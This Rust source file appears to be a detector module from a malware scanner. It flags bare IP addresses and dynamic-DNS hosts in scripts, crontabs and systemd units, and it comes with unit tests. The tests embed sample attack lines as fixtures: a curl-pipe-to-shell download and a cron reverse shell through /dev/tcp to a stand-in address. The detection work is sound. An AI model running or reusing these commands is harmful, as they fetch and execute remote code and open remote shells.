//! Machines that a script names by address or by a free name.

use lazaret_model::{Fact, Indicator, IndicatorKind, TextKind};

use super::host::{is_dynamic_dns, machines_in_text};
use super::state;
use super::text::{decoded, is_bulk, is_script, text_content};
use crate::{Analyzer, Subject};

/// States the hosts in scripts, crontabs and units that are a bare address or a name of a
/// dynamic-DNS service, with the URL they stand in. Other names are everywhere (home pages in
/// comments) and tell nothing by themselves.
pub(crate) struct Endpoints;

/// The largest script that is read.
const LARGEST: usize = 256 * 1024;
/// The most hosts that are stated of one script: a list of addresses is data.
const MOST: usize = 64;

impl Analyzer for Endpoints {
    fn name(&self) -> &'static str {
        "endpoint"
    }

    fn version(&self) -> u32 {
        2
    }

    fn wants(&self, subject: &Subject<'_>) -> bool {
        subject.is_whole() && (8..=LARGEST).contains(&subject.bytes.len()) && !is_bulk(subject.path)
    }

    fn analyze(&self, subject: &Subject<'_>, facts: &mut Vec<Fact>) -> Result<(), String> {
        let starts =
            text_content(subject.path, subject.inside, subject.mode, subject.bytes).is_some_and(|text| {
                is_script(text.kind) || matches!(text.kind, TextKind::Crontab | TextKind::SystemdUnit)
            });
        if !starts {
            return Ok(());
        }
        let text = decoded(subject.bytes);
        let telling = machines_in_text(&text).into_iter().filter(|(_, indicator)| is_telling(indicator));
        state(subject, telling.take(MOST).collect(), facts);
        Ok(())
    }
}

fn is_telling(indicator: &Indicator) -> bool {
    let host = match indicator.kind {
        IndicatorKind::Host => indicator.value.as_str(),
        IndicatorKind::Url => {
            let rest = indicator.value.split_once("://").map_or("", |(_, rest)| rest);
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            match authority.strip_prefix('[') {
                Some(rest) => rest.split(']').next().unwrap_or_default(),
                None => authority.split(':').next().unwrap_or_default(),
            }
        }
        _ => return false,
    };
    host.parse::<std::net::IpAddr>().is_ok() || is_dynamic_dns(host)
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]

    use lazaret_model::{EntryPath, FactKind};

    use super::*;

    fn found(path: &str, text: &str) -> Vec<String> {
        let path = EntryPath::from(path);
        let size = text.len() as u64;
        let subject =
            Subject { path: &path, inside: &[], mode: 0o644, size, bytes: text.as_bytes(), offset: 0 };
        let mut facts = Vec::new();
        if Endpoints.wants(&subject) {
            Endpoints.analyze(&subject, &mut facts).unwrap();
        }
        facts
            .into_iter()
            .map(|fact| match fact.kind {
                FactKind::Indicator(indicator) => format!("{}: {indicator}", fact.line.unwrap_or(0)),
                other => panic!("{other:?}"),
            })
            .collect()
    }

    #[test]
    fn addresses_and_free_names_in_scripts_are_stated() {
        assert_eq!(
            found("opt/a", "#!/bin/sh\n# https://example.org/\ncurl http://203.0.113.7/a.jpg | sh\n"),
            ["3: host 203.0.113.7", "3: url http://203.0.113.7/a.jpg"]
        );
        assert_eq!(found("a.py", "import x\nhost('any.duckdns.org:99')\n"), ["2: host any.duckdns.org"]);
        assert_eq!(
            found("etc/cron.d/x", "* * * * * root bash -i >/dev/tcp/203.0.113.7/1\n"),
            ["1: host 203.0.113.7"]
        );
    }

    #[test]
    fn data_and_documentation_are_not_read_for_hosts() {
        assert_eq!(found("srv/list.txt", "203.0.113.7\n198.51.100.7\n"), Vec::<String>::new());
        assert_eq!(found("usr/share/doc/x/a.sh", "curl http://203.0.113.7/\n"), Vec::<String>::new());
    }
}
